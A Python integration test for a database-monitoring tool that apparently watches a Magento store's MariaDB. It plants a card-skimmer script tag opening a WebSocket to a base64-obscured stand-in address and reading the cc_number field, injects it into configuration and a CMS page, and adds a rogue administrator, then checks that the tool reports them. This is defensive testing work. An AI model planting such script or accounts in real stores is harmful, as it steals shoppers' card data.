#!/usr/bin/env python3
"""Rows of a real MariaDB: a skimmer, a planted administrator, and what dies by itself.

usage: rows.py MAGEWARDEN

Starts MariaDB with its audit plugin on a free port of 127.0.0.1, makes magewarden's account with the printed grants, and
watches with `up --source shop_rows`. Then writes a skimmer to configuration, a page and a layout, plants an
administrator, and runs Magento's own clean-up statements: what died must still be in the ledger. Counts
what our account asked of the server. Everything started here is ended by its process id.
"""
import json
import pathlib
import re
import signal
import subprocess
import sys
import time

from shared import client, database, free_port, grant, magento, need, observations, page, password_file, stage, verified, wait_for

SECRET = "not-a-real-secret-5d1f"
SCHEMA = pathlib.Path(__file__).resolve().parent.parent / "shop" / "schema.sql"

# What is there when the watch begins; secrets stand in columns that must never be read.
ROWS = f"""
insert into mg_core_config_data (scope, scope_id, path, value) values ('default', 0, 'web/secure/base_url', 'https://shop.example.com/'),
  ('default', 0, 'payment/gateway/private_key', '{SECRET}');
insert into mg_admin_user (username, password, email, is_active) values ('owner', '{SECRET}', 'owner@example.com', 1);
insert into mg_admin_user_session (user_id, status, ip, updated_at) values (1, 1, '192.0.2.77', now() - interval 2 day);
insert into mg_password_reset_request_event (request_type, account_reference, created_at, ip) values (1, 'owner@example.com', now() - interval 2 day, '192.0.2.78');
insert into mg_oauth_token (admin_id, type, token, secret, user_type, created_at) values (1, 'access', '{SECRET[:20]}', '{SECRET}', 2, now() - interval 2 day);
insert into mg_cron_schedule (job_code, status, created_at, finished_at) select concat('job_', seq), 'success', now() - interval 3 hour, now() - interval 2 hour from seq_1_to_300;
insert into mg_quote_payment (quote_id, method, cc_number_enc) values (41, 'checkmo', '{SECRET}');
"""

# What Magento's own jobs delete (`magento.md` §3.8).
CLEAN_UP = """
delete from mg_admin_user_session where updated_at < now() - interval 1 day;
delete from mg_password_reset_request_event where created_at < now() - interval 1 day;
delete from mg_oauth_token where created_at < now() - interval 4 hour and user_type = 2;
delete from mg_cron_schedule where status = 'success' and finished_at < now() - interval 1 hour;
delete from mg_quote_payment where quote_id = 41;
"""


def main():
    magewarden = pathlib.Path(sys.argv[1]).resolve()
    with stage("rows") as (started, folder):
        server, log = database(folder, free_port())
        started.append(server)
        sql = lambda text: subprocess.run(client(folder) + ["-N"], check=True, input=text, text=True, capture_output=True).stdout
        sql("create database shop; use shop;" + SCHEMA.read_text() + ROWS)
        root = magento(folder, SECRET)
        word = password_file(folder, "its-own-password")
        asked = ["--magento", str(root), "--database-user", "magewarden", "--database-password-file", str(word), "--source", "shop_rows"]
        printed = subprocess.run([str(magewarden), "up", *asked, "--print-grants"], check=True, capture_output=True, text=True).stdout
        for column in ("cc_number_enc", "cc_cid_enc", "`password`", "`token`", "`secret`", "rp_token`", "session_id"):
            need(column not in printed, f"the grants name {column}", printed)
        grant(sql, printed, "its-own-password")
        console, data = free_port(), folder / "data"
        err = open(folder / "err", "w+")

        def start():
            up = subprocess.Popen([str(magewarden), "up", *asked, "--log", str(log), "--data", str(data), "--port", str(console)], stderr=err)
            started.append(up)
            return up

        entries = lambda: observations(magewarden, data, "shop_rows:shop")

        def rows(table, change=None):
            return [row for row in entries() if row.get("row.table") == table and change in (None, row.get("change"))]

        show = lambda path="/": page(console, path)
        up = start()
        wait_for("the console", 30, lambda: "<main" in show())
        wait_for("every table seen", 60, lambda: len(rows("quote_payment")) == 1 and len(rows("cron_schedule")) == 300)
        # What Magento's own jobs delete is in the ledger.
        sql("use shop;" + CLEAN_UP)
        for table, count in (("admin_user_session", 1), ("password_reset_request_event", 1), ("oauth_token", 1), ("cron_schedule", 300), ("quote_payment", 1)):
            need(int(sql(f"select count(*) from shop.mg_{table}")) == 0, f"{table} was cleaned")
            need(len(rows(table)) == count, f"{table}: what died is in the ledger", rows(table))
        need(any("ip=192.0.2.77" in value for value in rows("admin_user_session")[0]["row.values"]), "the session's address is kept")
        # Harm, each at its store.
        skimmer = "<script>var s=new WebSocket(atob(\\'d3NzOi8vMTk4LjUxLjEwMC45\\'));document.querySelector(\\'[name=cc_number]\\')</script>"
        sql(f"""use shop;
            insert into mg_core_config_data (scope, scope_id, path, value) values ('websites', 2, 'design/head/includes', '{skimmer}');
            update mg_cms_page set content = '<h1>Welcome</h1>{skimmer}' where page_id = 1;
            insert into mg_layout_update (handle, xml) values ('checkout_index_index', '<referenceBlock name="h"><action method="x"><argument>system</argument></action></referenceBlock>');
            insert into mg_admin_user (username, is_active) values ('support2', 1);
            insert into mg_quote_payment (quote_id, method) values (42, 'checkmo');""")
        wait_for("what was planted", 90, lambda: all(rows(table, change) for table, change in (
            ("core_config_data", "created"), ("cms_page", "modified"), ("layout_update", "created"), ("admin_user", "created"))))
        # An incident opens: what is looked at each ten minutes is looked at now, before it dies.
        wait_for("a quote's payment, with the incident", 90, lambda: rows("quote_payment", "created"))
        need(rows("core_config_data", "created")[0].get("shop.website") == "second", "the skimmer's website is told", rows("core_config_data", "created"))
        def told():
            return " ".join(show(link) for link in re.findall(r'href="(/incidents/[0-9a-f]+)"', show()))

        # One incident: the account that wrote it stands in the audit log, what and where in the rows.
        wanted = ("Skimmer", "calls code", "design/head/includes", "cms_page:1", "layout_update:1", "admin_user:2", "root", "website second")
        wait_for("what was planted, by whom and where, on the pages", 30, lambda: all(word in told() for word in wanted))
        # Nothing that must not be read was read.
        sealed = json.dumps(entries())
        need(SECRET not in sealed and SECRET[:20] not in sealed, "a secret was read")
        # A start tells only what is new.
        before = len(entries())
        up.send_signal(signal.SIGKILL)
        up.wait(20)
        up = start()
        wait_for("the console", 30, lambda: "<main" in show())
        time.sleep(12)
        need(len(entries()) == before, f"a start tells nothing twice: {before} and {len(entries())}")
        # What our account asked of the server, and how fast.
        audit = log.read_text(errors="replace")
        own = [line for line in audit.splitlines() if ",magewarden," in line and ",QUERY," in line]
        busiest = max((sum(1 for line in own if line.startswith(second)) for second in {line[:17] for line in own}), default=0)
        need(0 < busiest <= 15, f"at most five statements a second, at the log-in a few more: {busiest}")
        need(not any(column in line for line in own for column in ("cc_number_enc", "cc_cid_enc", "rp_token,", "`password`")), "a statement names what must not be read")
        # A database that goes is said, and comes back by itself.
        server.terminate()
        server.wait(30)
        wait_for("the trouble on the page", 90, lambda: "failing" in show("/sources"))
        wait_for("the trouble as an incident", 30, lambda: "evidence doesn&#39;t work" in show())
        need('magewarden_source_works{source="shop_rows:shop"} 0' in show("/metrics"), "the trouble in the metrics", show("/metrics"))
        up.send_signal(signal.SIGTERM)
        up.wait(30)
        health = subprocess.run([str(magewarden), "entries", str(data / "ledger"), "--source", "magewarden:health", "--format", "ndjson"], capture_output=True, text=True).stdout
        need('failing' in health and 'shop_rows:shop' in health, "the trouble is sealed", health)
        verified(magewarden, data)
        print(f"1 passed, 0 failed ({before} rows sealed, at most {busiest} statements a second)")


if __name__ == "__main__":
    main()
